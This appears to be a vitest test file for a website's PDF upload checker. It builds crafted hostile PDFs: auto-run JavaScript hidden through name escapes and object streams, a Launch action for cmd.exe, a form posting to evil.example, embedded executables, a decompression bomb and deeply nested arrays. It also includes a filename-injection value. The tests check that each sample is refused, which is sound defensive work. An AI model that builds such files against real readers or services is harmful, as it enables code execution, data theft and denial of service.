import fs from "node:fs";
import path from "node:path";
import zlib from "node:zlib";
import pino from "pino";
import { expect, test } from "vitest";
import { withoutPrograms } from "../support/without-programs.ts";
import { createPdfProcess, PDF_SCRIPT } from "../../src/media/pdfs/pdf-process.ts";
import type { ProcessLimits } from "../../src/media/upload-process.ts";
import { createUploadTurns } from "../../src/media/pictures/picture-process.ts";
import { buildPdf, objectStream, stream } from "../support/build-pdf.ts";
import { createStaff } from "../support/staff.ts";
import { makeTempDir } from "../support/test-database.ts";

const root = path.resolve(import.meta.dirname, "../..");

/** Limits that no ordinary file reaches on any machine. */
const AMPLE: ProcessLimits = { processorMs: 600_000, clockMs: 600_000, megabytes: 4000 };

/** Starts the checker, or a script in its place. */
function startChecker({ limits = AMPLE, script }: { limits?: ProcessLimits; script?: string } = {}) {
  const dir = makeTempDir();
  const file = path.join(dir.path, "process.mjs");
  if (script !== undefined) fs.writeFileSync(file, script);
  const logLines: Record<string, unknown>[] = [];
  const logger = pino({ level: "trace" }, { write: (line) => logLines.push(JSON.parse(line)) });
  const checker = createPdfProcess({
    script: script === undefined ? path.join(root, PDF_SCRIPT) : file,
    logger,
    turns: createUploadTurns(),
    limits,
  });
  return {
    logLines,
    check(content: Buffer) {
      const source = path.join(dir.path, "upload");
      fs.writeFileSync(source, content);
      return checker.check(source);
    },
    [Symbol.dispose]: () => dir[Symbol.dispose](),
  };
}

const ACTION = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const OPENS = "/OpenAction 5 0 R";
const BOMB = zlib.deflateSync(Buffer.alloc(80 * 1024 * 1024));
const hidden = (data: string) => stream("", Buffer.from(data, "latin1"));

const SCRIPT = /contains a script/;
const DAMAGED = /damaged, incomplete, or built in an unusual way/;

const HOSTILE: Readonly<Record<string, readonly [Buffer, RegExp]>> = {
  "a script that runs at the opening": [buildPdf({ catalog: OPENS, objects: [ACTION] }), SCRIPT],
  "a script in the tree of names": [
    buildPdf({ catalog: `/Names << /JavaScript << /Names [(a) ${ACTION}] >> >>` }),
    SCRIPT,
  ],
  "a script with escaped names": [
    buildPdf({ catalog: OPENS, objects: ["<< /S /#4aavaScr#69pt /#4A#53 (app.alert\\(1\\)) >>"] }),
    SCRIPT,
  ],
  "a script in a compressed object stream": [
    buildPdf({ catalog: OPENS, objects: ["null", objectStream(5, ACTION)] }),
    SCRIPT,
  ],
  "a script in an object stream with escaped names": [
    buildPdf({
      catalog: OPENS,
      objects: ["null", objectStream(5, "<< /S /J#61vaScript /J#53 (x) >>", "/Type /Obj#53tm")],
    }),
    SCRIPT,
  ],
  "a script in an object stream without a type": [
    buildPdf({ catalog: OPENS, objects: ["null", objectStream(5, ACTION, "")] }),
    SCRIPT,
  ],
  "a script that nothing refers to": [buildPdf({ objects: [ACTION] }), SCRIPT],
  "a script after the end of the file": [
    Buffer.concat([buildPdf(), Buffer.from(`9 0 obj\n${ACTION}\nendobj\n%%EOF\n`)]),
    SCRIPT,
  ],
  "a script as an object inside a stream": [
    buildPdf({ objects: [hidden(`x 9 0 obj\n<< /S /URI >>\n`)] }),
    DAMAGED,
  ],
  "a script behind a keyword inside a text": [
    buildPdf({ objects: [`<< /X (>> stream\n) /S /JavaScript /J#53 (app.alert) >> % endstream`] }),
    SCRIPT,
  ],
  "an object stream behind a keyword inside a text": [
    buildPdf({
      objects: [objectStream(9, ACTION).replace("/Type", "/X (>> stream\n) /Type")],
    }),
    SCRIPT,
  ],
  "a trailer inside a stream": [buildPdf({ objects: [hidden("trailer\n<< /Root 9 0 R >>")] }), DAMAGED],
  "an object stream that ends too early": [
    buildPdf({ objects: [objectStream(9, "<< >>").replace(/.{6}\nendstream/s, "\nendstream")] }),
    DAMAGED,
  ],
  "an object stream with a predictor": [
    buildPdf({ objects: [objectStream(9, "<< >>", "/Type /ObjStm /DecodeParms << /Predictor 12 >>")] }),
    DAMAGED,
  ],
  "an object stream with two filters": [
    buildPdf({
      objects: [objectStream(9, "<< >>").replace("/FlateDecode", "[/ASCIIHexDecode /FlateDecode]")],
    }),
    DAMAGED,
  ],
  "an object stream that inflates to 80 MB": [
    buildPdf({ objects: [stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", BOMB)] }),
    DAMAGED,
  ],
  encryption: [
    buildPdf({ objects: ["<< /Filter /Standard /V 1 /R 2 >>"], trailer: "/Encrypt 5 0 R" }),
    /encrypted or has a password/,
  ],
  "an embedded file": [
    buildPdf({ objects: [stream("/Type /EmbeddedFile", Buffer.from("MZ"))] }),
    /other files embedded/,
  ],
  "a file attached to a page": [
    buildPdf({ objects: ["<< /Type /Annot /Subtype /FileAttachment /FS << /F (a.exe) >> >>"] }),
    /other files embedded/,
  ],
  "a program that is started": [
    buildPdf({ catalog: OPENS, objects: ["<< /S /Launch /F (cmd.exe) >>"] }),
    /start a program/,
  ],
  "a form that sends data": [
    buildPdf({ objects: ["<< /S /SubmitForm /F (https://evil.example) >>"] }),
    /sends or fetches data/,
  ],
  "a form with scripts of its own": [buildPdf({ catalog: "/AcroForm << /XFA 4 0 R >>" }), /sends or fetches/],
  "a film": [buildPdf({ objects: ["<< /Subtype /RichMedia >>"] }), /video, sound or 3D/],
  "the first half of a file": [buildPdf().subarray(0, 300), DAMAGED],
  "a stream without an end": [
    Buffer.from(buildPdf().toString("latin1").replaceAll("endstream", "endstrea"), "latin1"),
    DAMAGED,
  ],
  "nothing but a first line": [Buffer.from("%PDF-1.7\n%%EOF"), DAMAGED],
  "no page": [
    Buffer.from(
      buildPdf().toString("latin1").replace("/Kids [3 0 R] /Count 1", "/Kids [] /Count 0"),
      "latin1",
    ),
    DAMAGED,
  ],
  "a page tree that contains itself": [
    Buffer.from(buildPdf().toString("latin1").replace("/Kids [3 0 R]", "/Kids [2 0 R]"), "latin1"),
    DAMAGED,
  ],
  "a hundred thousand nested arrays": [
    buildPdf({ objects: ["[".repeat(100_000) + "]".repeat(100_000)] }),
    DAMAGED,
  ],
};

test.each(Object.entries(HOSTILE))("refuses %s", async (_what, [content, sentence]) => {
  using checker = startChecker();
  await expect(checker.check(content)).rejects.toMatchObject({
    status: 400,
    message: expect.stringMatching(sentence),
  });
  // A sentence of the check itself: no limit was reached, and nothing crashed.
  expect(checker.logLines).toEqual([]);
});

test("accepts links, bookmarks, object streams and texts that mention scripts", async () => {
  using checker = startChecker();
  await expect(checker.check(buildPdf())).resolves.toBe("application/pdf");
  const usual = buildPdf({
    catalog: "/OpenAction [3 0 R /Fit] /Outlines 5 0 R",
    objects: [
      "<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
      "<< /Title (JavaScript and Launch) /Parent 5 0 R /A << /S /URI /URI (https://shop.example) >> >>",
      objectStream(9, "<< /Type /Annot /Subtype /Link /Border [0 0 0] >>"),
      stream("/Filter /FlateDecode", zlib.deflateSync(Buffer.from("/JavaScript /Launch 9 0 obj"))),
    ],
  });
  await expect(checker.check(usual)).resolves.toBe("application/pdf");
});

test("checks a file of twenty megabytes within the limits of the site", async () => {
  using checker = startChecker({ limits: { processorMs: 10_000, clockMs: 60_000, megabytes: 250 } });
  // Compressed pixels: any bytes may occur in them. A fixed sequence, so that the test is the same each time.
  const noise = Buffer.alloc(19 * 1024 * 1024);
  for (let index = 0, state = 1; index < noise.length; index += 1) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    noise[index] = state >>> 24;
  }
  const file = buildPdf({ objects: [stream("/Subtype /Image", noise)] });
  await expect(checker.check(file)).resolves.toBe("application/pdf");
});

test("a check that stalls is ended, and the next file is checked", async () => {
  using stalling = startChecker({
    limits: { ...AMPLE, processorMs: 200 },
    script: "process.on('message', () => { for (;;); });",
  });
  const sentence = expect.stringMatching(/takes too long or too much memory/);
  await expect(stalling.check(buildPdf())).rejects.toMatchObject({ status: 400, message: sentence });
  await expect(stalling.check(buildPdf())).rejects.toMatchObject({ status: 400, message: sentence });
  expect(stalling.logLines).toHaveLength(2);
  expect(stalling.logLines[0]).toMatchObject({ level: 40, reason: expect.stringMatching(/processor time/) });
});

test("a check that takes too much memory, or crashes, is ended with a sentence", async () => {
  using greedy = startChecker({
    limits: { ...AMPLE, megabytes: 150 },
    script:
      "const kept = []; process.on('message', () => setInterval(() => kept.push(Buffer.alloc(2e7, 1)), 5));",
  });
  await expect(greedy.check(buildPdf())).rejects.toMatchObject({ status: 400 });
  expect(greedy.logLines[0]).toMatchObject({ reason: expect.stringMatching(/of memory/) });
  using crashing = startChecker({ script: "process.on('message', () => process.abort());" });
  await expect(crashing.check(buildPdf())).rejects.toMatchObject({ status: 400 });
  expect(crashing.logLines[0]).toMatchObject({ reason: expect.stringMatching(/ended with SIG/) });
});

test("where no process can be started, a file is to be sent again, and the site goes on", async () => {
  using checker = startChecker();
  await withoutPrograms(() => expect(checker.check(buildPdf())).rejects.toMatchObject({ status: 503 }));
});

test("a refused file leaves nothing behind", async () => {
  await using staff = await createStaff("editor");
  const sent = staff
    .send("post", "/api/upload/file")
    .attach("file", buildPdf({ objects: [ACTION] }), "report.pdf")
    .field("title", "Report");
  expect((await sent.expect(400)).body.error).toMatch(SCRIPT);
  expect((await staff.send("get", "/api/files").expect(200)).body).toEqual([]);
  expect(fs.readdirSync(staff.uploadsDir)).toEqual([".tmp"]);
});

test("a file of the library can't be made to open inside the site", async () => {
  await using staff = await createStaff("editor");
  const sent = staff
    .send("post", "/api/upload/file")
    .attach("file", buildPdf(), "a.html")
    .field("title", '"; filename=evil.html\u202e');
  const { body } = await sent.expect(201);
  const { headers } = await staff.sendAnonymous("get", body.url).expect(200);
  expect(headers["content-disposition"]).toBe('attachment; filename="filename-evil-html.pdf"');
  expect(headers["content-security-policy"]).toBe("default-src 'none'; sandbox");
});
